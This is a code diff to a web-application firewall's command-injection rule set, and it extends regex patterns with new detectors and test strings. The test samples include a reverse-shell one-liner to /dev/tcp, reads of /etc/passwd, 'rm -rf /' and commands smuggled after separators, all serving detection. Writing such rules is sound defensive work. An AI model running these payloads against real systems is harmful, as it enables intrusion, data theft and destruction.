@@ -2,23 +2,23 @@
 
 from __future__ import annotations
 
-from lbproxy.waf.rule import Rule, View
+from lbproxy.waf.rule import Rule, View, Zone
 
 __all__ = ["COMMANDS"]
 
 _SHELL = View.SHELL
 _END = r"(?:$| ?[;|&`)#<>])"
 _COMMAND = (
-    r"(?:(?:/?(?:usr/|local/)?s?bin/)?(?:(?:cat|tac|nl|more|less|head|tail|od|xxd|strings|base64"
+    r"(?:(?:/?(?:usr/|local/)?s?bin/)?(?:busybox )?(?:(?:cat|tac|nl|more|less|head|tail|od|xxd|strings|base64"
     r"|rev"
     r"|sort|cut|grep|awk|sed|file|stat) (?:-[\w-]+ (?:\d+ )?)?[^ \n]*[/.?*]"
-    rf"|(?:id|whoami|pwd|uname|hostname|env|printenv|set|ifconfig|ipconfig|netstat|ps|w|who|last|df"
-    rf"|mount|date|users|groups|tasklist|systeminfo|ver|dir|ls|sh|bash|zsh|ksh|dash){_END}"
+    rf"|(?:id|whoami|pwd|uname|hostname|env|printenv|ifconfig|ipconfig|netstat|ps|df"
+    rf"|tasklist|systeminfo|ver|dir|ls|sh|bash|zsh|ksh|dash){_END}"
     r"|(?:uname|ps|ls|id|netstat|df|ifconfig|dir|date|hostname|env) -?[-/][\w-]+|ls [/~.]"
     r"|dir \w?:?\\?"
     r"|(?:wget|curl|lynx|fetch|ftp|tftp|scp|ssh|telnet) [-\w]*[ \w]*(?:-|http|ftp|//|[\w-]+\.|\$"
     r"|\d)"
-    r"|(?:nc|ncat|netcat|socat) -?[\w]|ping6? (?:-\w|\d|[\w-]+\.)|sleep \d|timeout (?:/t )?\d"
+    r"|(?:nc|ncat|netcat|socat|openssl) -?[\w]|ping6? (?:-\w|\d|[\w-]+\.)|sleep \d|timeout (?:/t )?\d"
     r"|(?:rm|cp|mv|chmod|chown|kill|mkdir|touch|ln|tar|dd|chattr) (?:-|/|\+|\d|\w+=|[^ \n]+[/.])"
     r"|(?:bash|sh|zsh|ksh|dash|python[\d.]*|perl|ruby|php|node|lua) -\w|(?:nslookup|dig"
     r"|host) [\w$-]"
@@ -34,6 +34,7 @@ COMMANDS: tuple[Rule, ...] = (
         "command",
         "command after a separator of the shell",
         rf"^[^ \n]* ?(?:;|\|\|?|&&?|\$\(|<\(|>\() ?{_COMMAND}"
+        r"|^[^ \n]*(?:;|\|\|?|&&?|\$\()(?:date|last|who|users|groups|set|mount)\)?$"
         rf"|^(?:[^ \n]*(?:[^ \na-z:,(] )?`|`) ?{_COMMAND}[^`\n]*(?:$|`(?:$|[^ \n]))",
         (";", "|", "&", "`", "$(", "<(", ">("),
         ("8.8.8.8; cat /etc/passwd", "x|id", "a && whoami", "$(curl x.example)", "`id`"),
@@ -53,13 +54,14 @@ COMMANDS: tuple[Rule, ...] = (
         r"|invoke-expression|\biex ?\( ?new|downloadstring ?\(|wget http[^ \n]+ ?(?:-o|;|&|\|)"
         r"|\bpython[\d.]* -c import|\bperl -e |\bchmod (?:\+x|777) |curl [^|\n]*\| ?(?:ba)?sh$"
         r"|\bnslookup [\w.-]*(?:oast|interact|burp|dnslog)|\.(?:oast|interactsh|dnslog|ceye)\.\w+"
-        r"|burpcollaborator",
+        r"|burpcollaborator|--(?:checkpoint-action|use-compress-program|upload-pack|pre-invoke)="
+        r"|^-{1,2}o? ?proxycommand\b",
         *(
             (
                 *("/etc/", "etc/", "/proc", "/dev/", "nc", "mkfifo", "bash", "sh -", "rm -"),
                 *("powershell", "cmd", "certutil", "bitsadmin", "invoke-", "iex", "downloadstring"),
                 *("wget", "python", "perl", "chmod", "curl", "oast", "interact", "burp", "dnslog"),
-                "ceye",
+                *("ceye", "--", "proxycommand"),
             ),
         ),
         ("bash -i >& /dev/tcp/1.2.3.4/80", "cat /etc/passwd", "rm -rf /", "cmd.exe /c dir"),
@@ -70,7 +72,7 @@ COMMANDS: tuple[Rule, ...] = (
         932120,
         "command",
         "separator or variable that hides a command",
-        r"\$\{?ifs\b|\{(?:cat|ls|id|echo|curl|wget|ping|nc|bash|sh),[^ \n}]*\}|\$\{(?:path|home"
+        r"\$\{?ifs\b|\{(?:cat|ls|echo|curl|wget|ping|nc|bash|sh),[^ \n}]*\}|\{id,-\w+\}|\$\{(?:path|home"
         r"|shell|pwd)"
         r":\d|\$\{?hostname\}?[.`]|\$\( ?(?:whoami|id|hostname|uname|cat|curl|wget|nslookup|sleep"
         r"|ping)\b"
@@ -80,6 +82,18 @@ COMMANDS: tuple[Rule, ...] = (
         ("cat${IFS}/etc/x", "{cat,/x}", "/???/c?t", "$(whoami)"),
         ("${HOME}/bin", "{a,b}", "what? /why?/"),
         View.TEXT,
+    ),
+    Rule(
+        932125,
+        "command",
+        "command after a host, on a second line",
+        r"^(?:(?:[\w-]+\.)+\w+)? (?:(?:id|whoami|hostname|uname(?: -a)?)$|(?:/usr)?/bin/\w+"
+        r"|(?:cat|head|tail) /|(?:curl|wget) [^ \n]+[.:]|(?:ping|sleep) (?:-|\d)|ls -)",
+        (" ",),
+        ("\nid", "127.0.0.1\ncat /etc/hosts", "a.example\r\nsleep 5"),
+        ("your id", "example.com has an id", "curl a.example", "v1.2 sleep well"),
+        View.TEXT,
+        (Zone.ARGS, Zone.COOKIES),
     ),
     Rule(
         932130,
